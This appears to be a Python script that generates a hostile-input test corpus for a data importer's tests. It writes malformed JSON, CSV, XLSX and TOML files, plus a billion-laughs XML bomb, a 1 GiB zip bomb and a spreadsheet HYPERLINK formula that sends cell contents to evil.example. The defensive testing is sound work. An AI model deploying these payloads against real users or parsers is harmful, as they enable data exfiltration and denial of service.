"""Build the hostile-input corpus: every file a researcher (or an attacker) might hand an importer.

    python tests/data/bad/make_corpus.py OUT_DIR

Big files (a 50 MB cell, 100,000 rows) are generated, never committed. `build()` returns each
case with what must happen: "refuse" (exit 2, one line naming the file, library unchanged) or
"import" (the content is fine: it imports, maybe with flags).
"""

from __future__ import annotations

import functools
import io
import json
import os
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[3]
SAMPLE = ROOT / "resources" / "samples" / "us-nap5-2022.json"
HEADERS = ["Commitment Unique Identifier", "Action Plan ID", "Country/Locality", "Commitment Title", "Action Plan Number"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@dataclass(frozen=True)
class Case:
    path: Path
    expect: str  # "refuse" | "import"
    why: str


def rows(n: int, *, title: str = "Open data") -> list[list[str]]:
    return [[f"ZZ{i:06d}", "AP_ZZ01", "Zedland", f"{title} {i}", "1"] for i in range(n)]


def csv_text(body: list[list[str]]) -> str:
    out = io.StringIO()
    import csv

    w = csv.writer(out, lineterminator="\n")
    w.writerow(HEADERS)
    w.writerows(body)
    return out.getvalue()


def xlsx_bytes(body: list[list[str]], *, sheet_xml: str | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal workbook written by hand (fast for 100,000 rows; lets us plant hostile XML)."""
    def cell(ref: str, v: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{escape(v)}</t></is></c>'

    def col(i: int) -> str:
        return chr(ord("A") + i)

    if sheet_xml is None:
        lines = []
        for r, values in enumerate([HEADERS, *body], start=1):
            lines.append(f'<row r="{r}">' + "".join(cell(f"{col(i)}{r}", v) for i, v in enumerate(values)) + "</row>")
        sheet_xml = (
            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            "<sheetData>" + "".join(lines) + "</sheetData></worksheet>"
        )
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Commitments" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in files.items():
            z.writestr(name, text.encode("utf-8"))
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)


@functools.cache
def zip_bomb() -> bytes:
    """A valid-looking workbook whose sheet inflates to 1 GiB of zeros, from ~1 MB on disk.

    The member is deflated: a bare ZipInfo defaults to ZIP_STORED, which made this 1.1 GB on
    disk (and let the memory check's bound, a multiple of the file's size, grow with it).
    Cached: it is built once per run (deflating 1 GiB takes a few seconds)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        ok = zipfile.ZipFile(io.BytesIO(xlsx_bytes(rows(1))))
        for name in ok.namelist():
            if name != "xl/worksheets/sheet1.xml":
                z.writestr(name, ok.read(name))
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as member:
            zero = b"\0" * (1 << 20)
            for _ in range(1024):
                member.write(zero)
    return buf.getvalue()


def sample() -> dict:
    return json.loads(SAMPLE.read_text(encoding="utf-8"))


def build(out: Path, *, big: bool = True) -> list[Case]:
    out.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, data: bytes | str, expect: str, why: str) -> None:
        p = out / name
        p.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        cases.append(Case(p, expect, why))

    plan_text = SAMPLE.read_text(encoding="utf-8")
    garbage = bytes(range(256)) * 64 + os.urandom(4096)
    # -- JSON plans
    add("empty.json", b"", "refuse", "empty file")
    add("blank.json", b" \n\t\n", "refuse", "only whitespace")
    add("garbage.json", garbage, "refuse", "binary garbage")
    add("truncated.json", plan_text[: len(plan_text) // 2], "refuse", "truncated in the middle")
    add("utf16.json", plan_text.encode("utf-16"), "import", "UTF-16 with BOM is fine")
    add("utf8-bom.json", b"\xef\xbb\xbf" + plan_text.encode(), "import", "UTF-8 BOM is fine")
    latin = sample()
    latin["plan"]["title"] = "Plan d'action é"
    add("latin1.json", json.dumps(latin, ensure_ascii=False).encode("latin-1", errors="replace"), "refuse",
        "Latin-1 is not UTF-8")
    add("deep.json", "[" * 100_000 + "]" * 100_000, "refuse", "100,000 levels deep")
    add("deep-object.json", '{"format": "irm-plan/1", "plan": ' + '{"a": ' * 5000 + "1" + "}" * 5000 + "}",
        "refuse", "deep object inside a plan")
    two = sample()
    add("dup-plans.json", json.dumps({"format": "irm-plan/1", "plans": [two["plan"], two["plan"]]}), "refuse",
        "the same plan twice")
    dupc = sample()
    dupc["plan"]["commitments"].append(dict(dupc["plan"]["commitments"][0]))
    add("dup-commitments.json", json.dumps(dupc), "refuse", "a commitment id twice")
    add("top-list.json", "[1, 2, 3]", "refuse", "a list, not a plan")
    add("wrong-format.json", '{"format": "irm-plan/99"}', "refuse", "an unknown format")
    add("nul-in-json.json", plan_text.replace('"title"', '"ti\x00tle"', 1), "refuse", "a NUL byte in a key")
    formula = sample()
    formula["plan"]["commitments"][0]["title"] = FORMULA
    add("formula-title.json", json.dumps(formula), "import", "formula text in a title stays text")
    if big:
        huge = sample()
        huge["plan"]["commitments"][0]["description"] = "A" * 50_000_000
        add("50mb-cell.json", json.dumps(huge), "refuse", "a 50 MB description")
    # -- OGP table, CSV
    add("empty.csv", b"", "refuse", "empty file")
    add("garbage.csv", garbage, "refuse", "binary garbage")
    add("header-only.csv", csv_text([]), "refuse", "no rows")
    add("not-ogp.csv", "a,b,c\n1,2,3\n", "refuse", "not OGP's table")
    good_csv = csv_text(rows(5))
    quoted = csv_text(rows(5, title="Open data, for all"))  # titles with commas are quoted
    add("truncated.csv", quoted[: quoted.rindex('"Open data') + 8], "refuse", "truncated inside a quoted cell")
    add("utf16.csv", good_csv.encode("utf-16"), "import", "UTF-16 with BOM is fine")
    add("utf8-bom.csv", b"\xef\xbb\xbf" + good_csv.encode(), "import", "UTF-8 BOM is fine")
    add("latin1.csv", csv_text(rows(3, title="Réforme")).encode("latin-1"), "refuse", "Latin-1 is not UTF-8")
    add("dup-ids.csv", csv_text(rows(3) + rows(1)), "refuse", "the same commitment twice")
    add("formula-title.csv", csv_text([["ZZ000001", "AP_ZZ01", "Zedland", FORMULA, "1"]]), "import",
        "formula text in a title stays text")
    if big:
        add("50mb-cell.csv", csv_text([["ZZ000001", "AP_ZZ01", "Zedland", "B" * 50_000_000, "1"]]), "refuse",
            "a 50 MB cell")
        add("100k-rows.csv", csv_text(rows(100_000)), "refuse", "100,000 rows")
    # -- OGP table, XLSX
    add("garbage.xlsx", b"PK\x03\x04" + garbage, "refuse", "a zip signature then garbage")
    add("not-zip.xlsx", garbage, "refuse", "no zip signature")
    good_x = xlsx_bytes(rows(5))
    add("truncated.xlsx", good_x[: len(good_x) // 2], "refuse", "truncated zip")
    add("billion-laughs.xlsx", xlsx_bytes([], sheet_xml=LAUGHS), "refuse", "XML entity expansion")
    add("zip-bomb.xlsx", zip_bomb(), "refuse", "1 GiB of zeros in 1 MB")
    add("dup-ids.xlsx", xlsx_bytes(rows(3) + rows(1)), "refuse", "the same commitment twice")
    add("formula-title.xlsx", xlsx_bytes([["ZZ000001", "AP_ZZ01", "Zedland", FORMULA, "1"]]), "import",
        "formula text in a title stays text")
    add("empty-sheet.xlsx", xlsx_bytes([], sheet_xml=(
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<sheetData/></worksheet>")), "refuse", "no header row")
    if big:
        add("100k-rows.xlsx", xlsx_bytes(rows(100_000)), "refuse", "100,000 rows")
    return cases


FORM_CASES: dict[str, bytes] = {
    "empty.toml": b"",
    "garbage.toml": bytes(range(256)) * 16,
    "latin1.toml": 'key = "latin1"\ntitle = "Réforme"\n'.encode("latin-1"),
    "utf16.toml": 'key = "utf16"\n'.encode("utf-16"),
    "truncated.toml": b'key = "truncated"\n[[fields]]\nkey = "specif',
    "deep.toml": b"x = " + b"[" * 50_000 + b"]" * 50_000 + b"\n",
    "deep-tables.toml": b"x = " + b"{a = " * 5000 + b"1" + b"}" * 5000 + b"\n",
    "huge.toml": b'key = "huge"\ntitle = "' + b"t" * 5_000_000 + b'"\n',
    "wrong-types.toml": b'key = 3\nversion = []\nfields = "none"\n',
}


def build_forms(out: Path) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in FORM_CASES.items():
        p = out / name
        p.write_bytes(data)
        paths.append(p)
    return paths


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "bad-corpus")
    for c in build(target / "imports"):
        print(f"{c.expect:7} {c.path.name:24} {c.why}")
    for p in build_forms(target / "forms"):
        print(f"form    {p.name}")
